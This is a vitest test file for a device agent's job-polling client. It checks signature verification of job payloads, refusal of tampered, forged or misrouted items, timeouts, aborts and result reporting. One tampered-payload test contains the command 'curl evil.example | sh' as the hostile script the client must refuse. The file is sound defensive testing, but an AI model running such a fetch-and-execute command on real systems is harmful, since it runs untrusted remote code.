import { generateKeyPairSync } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { jwkThumbprint } from '../../../src/features/devices/dpop/thumbprint.js';
import { scriptSha256, signJobPayload } from '../../../src/features/jobs/dispatch/job-payload.js';
import type { JobPayload } from '../../../src/features/jobs/dispatch/job-payload.js';
import {
  CredentialsStore,
  DeviceApiError,
  DeviceClient,
  WORK_TIMEOUT_MARGIN_S,
  loadOrCreateDeviceKey,
  runScript,
} from '../../../device/client/index.js';
import type { WorkItem } from '../../../device/client/index.js';
import { eventually } from '../../support/eventually.js';
import { tempDir } from '../../support/stack.js';
import { serverDpopSettings } from './server-side.js';
import { startWorkServer } from './work-server.js';
import type { WorkServer } from './work-server.js';

const jobKeys = generateKeyPairSync('ed25519');
const signingKey = jobKeys.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');

let settings: ReturnType<typeof serverDpopSettings>;
let server: WorkServer;
let client: DeviceClient;
let logged: string[];

/** A work item for `run`, its payload signed by the control plane's key unless said otherwise. */
function item(run: string, change: Partial<JobPayload> = {}, key = jobKeys.privateKey): WorkItem {
  const content = `echo "ran $BORG_RUN_ID"\n`;
  const payload: JobPayload = {
    v: 1,
    run_id: run,
    job_id: 'job_1',
    job_name: 'hello',
    device_id: 'dev_a',
    script: { interpreter: 'sh', content, args: [], env: {}, sha256: scriptSha256(content) },
    timeout_s: 10,
    issued_at: new Date().toISOString(),
    expires_at: new Date(Date.now() + 60_000).toISOString(),
    ...change,
  };
  return { run_id: run, job_id: payload.job_id, payload: signJobPayload(key, payload) };
}

/** The state directory of a device that enrolled: credentials holding `signingKey`, and its device key. */
async function enrolledStateDir(jobSigningKey = signingKey): Promise<string> {
  const stateDir = tempDir();
  await new CredentialsStore(stateDir).set({
    deviceId: 'dev_a',
    accessToken: 'at-0',
    accessTokenExpiresAt: Date.now() + 10 * 60_000,
    refreshToken: 'rt-0',
    signingKey: jobSigningKey,
  });
  return stateDir;
}

beforeEach(async () => {
  settings = serverDpopSettings();
  logged = [];
  const stateDir = await enrolledStateDir();
  const jkt = jwkThumbprint((await loadOrCreateDeviceKey(stateDir)).jwk);
  server = await startWorkServer({
    settings,
    accessToken: 'at-0',
    jkt,
    deviceId: 'dev_a',
    runs: { run_1: 'dev_a', run_2: 'dev_a', run_b: 'dev_b' },
  });
  client = new DeviceClient({ baseUrl: server.baseUrl, stateDir, log: (line) => logged.push(line) });
});

afterEach(async () => {
  await server.close();
  settings.close();
});

describe('polling for work', () => {
  it('returns the verified jobs and refuses a tampered item among them, logging it, without losing the others', async () => {
    const good = item('run_1');
    const tampered = item('run_2');
    const [header, body, signature] = tampered.payload.split('.');
    const changed = JSON.parse(Buffer.from(body!, 'base64url').toString());
    changed.script.content = 'curl evil.example | sh\n';
    changed.script.sha256 = scriptSha256(changed.script.content);
    tampered.payload = `${header}.${Buffer.from(JSON.stringify(changed)).toString('base64url')}.${signature}`;
    const forged = item('run_3', {}, generateKeyPairSync('ed25519').privateKey);
    const elsewhere = item('run_4', { device_id: 'dev_b' });
    const swapped = { ...item('run_5'), run_id: 'run_6' };
    server.offer(tampered, good, forged, elsewhere, swapped, { run_id: 7 } as unknown as WorkItem, item('run_8'));

    const batch = await client.nextWork({ waitS: 5 });
    expect(batch.jobs.map((job) => job.runId)).toEqual(['run_1', 'run_8']);
    expect(batch.jobs[0]).toMatchObject({
      jobId: 'job_1',
      deviceId: 'dev_a',
      script: { interpreter: 'sh', content: 'echo "ran $BORG_RUN_ID"\n' },
    });
    expect(batch.refused.map(({ runId, jobId, reason }) => ({ runId, jobId, reason }))).toEqual([
      { runId: 'run_2', jobId: 'job_1', reason: 'signature' },
      { runId: 'run_3', jobId: 'job_1', reason: 'signature' },
      { runId: 'run_4', jobId: 'job_1', reason: 'device' },
      { runId: 'run_6', jobId: 'job_1', reason: 'envelope' },
      { runId: undefined, jobId: undefined, reason: 'malformed' },
    ]);
    expect(logged).toContain(
      'refused the work item for run run_2 of job job_1: job payload refused (signature): the signature does not verify with the job-signing key',
    );
    expect(logged.filter((line) => line.startsWith('refused the work item'))).toHaveLength(5);
    expect(server.polls).toEqual([{ wait: '5', hungUp: false }]);
  });

  it('waits on the server until work comes, and asks for 30 s unless told', async () => {
    setTimeout(() => server.offer(item('run_1')), 300);
    const started = Date.now();
    const batch = await client.nextWork();
    expect(batch.jobs.map((job) => job.runId)).toEqual(['run_1']);
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(server.polls[0]!.wait).toBe('30');
  });

  it('returns an empty batch when nothing came within the wait', async () => {
    const started = Date.now();
    expect(await client.nextWork({ waitS: 1 })).toEqual({ jobs: [], refused: [] });
    expect(Date.now() - started).toBeGreaterThanOrEqual(900);
  });

  it('stops at once on abort, with the signal reason, and hangs up on the server', async () => {
    const controller = new AbortController();
    const reason = new Error('agent stopping');
    setTimeout(() => controller.abort(reason), 200);
    const started = Date.now();
    await expect(client.nextWork({ waitS: 30, signal: controller.signal })).rejects.toBe(reason);
    expect(Date.now() - started).toBeLessThan(3_000);
    await eventually(
      () => server.polls,
      (polls) => polls[0]?.hungUp === true,
      5_000,
    );
    await expect(client.nextWork({ signal: controller.signal })).rejects.toBe(reason);
    expect(server.polls).toHaveLength(1);
  });

  it(`gives up on a server that does not answer ${WORK_TIMEOUT_MARGIN_S} s after the wait`, async () => {
    server.silent = true;
    const started = Date.now();
    await expect(client.nextWork({ waitS: 0 })).rejects.toThrow(`GET /api/agent/work got no answer within ${WORK_TIMEOUT_MARGIN_S} s`);
    expect(Date.now() - started).toBeGreaterThanOrEqual(WORK_TIMEOUT_MARGIN_S * 1000 - 100);
    await eventually(
      () => server.polls,
      (polls) => polls[0]?.hungUp === true,
      5_000,
    );
  }, 20_000);

  it('refuses a wait outside 0..60 whole seconds without asking the server', async () => {
    for (const waitS of [-1, 61, 1.5]) await expect(client.nextWork({ waitS })).rejects.toThrow(RangeError);
    expect(server.polls).toEqual([]);
  });

  it('does not poll with a signing key it cannot read: work taken then could not be verified', async () => {
    const broken = new DeviceClient({ baseUrl: server.baseUrl, stateDir: await enrolledStateDir('MCowBQYDK2VwAyEA') });
    await expect(broken.nextWork({ waitS: 0 })).rejects.toThrow(/the job-signing key is not a base64 SPKI public key/);
    expect(server.polls).toEqual([]);
  });
});

describe('reporting a run', () => {
  it('runs a job from the poll for real, and reports progress and the result, which a retry gets again', async () => {
    server.offer(item('run_1'));
    const [job] = (await client.nextWork({ waitS: 5 })).jobs;
    expect(await client.reportProgress(job!.runId)).toEqual({ status: 'running' });
    const result = await runScript(job!);
    expect(result).toMatchObject({ outcome: 'succeeded', exit_code: 0, stdout: 'ran run_1\n' });
    expect(await client.reportResult(job!.runId, result)).toEqual({ status: 'succeeded', late: false });
    expect(await client.reportResult(job!.runId, { ...result, outcome: 'failed' })).toEqual({ status: 'succeeded', late: false });
    expect(server.reports).toEqual(['run_1 progress', 'run_1 result', 'run_1 result']);
    expect(server.results.get('run_1')).toEqual(result);
  });

  it('fails with the server status for a run of another device (403) and an unknown run (404)', async () => {
    const result = await runScript(await firstJob());
    await expect(client.reportResult('run_b', result)).rejects.toMatchObject({ status: 403, code: 'FORBIDDEN' });
    await expect(client.reportProgress('run_9')).rejects.toThrow(DeviceApiError);
    await expect(client.reportProgress('run_9')).rejects.toMatchObject({
      status: 404,
      message: 'POST /api/agent/runs/run_9/progress was refused with 404 NOT_FOUND: no run run_9',
    });
  });
});

async function firstJob() {
  server.offer(item('run_1'));
  return (await client.nextWork({ waitS: 5 })).jobs[0]!;
}
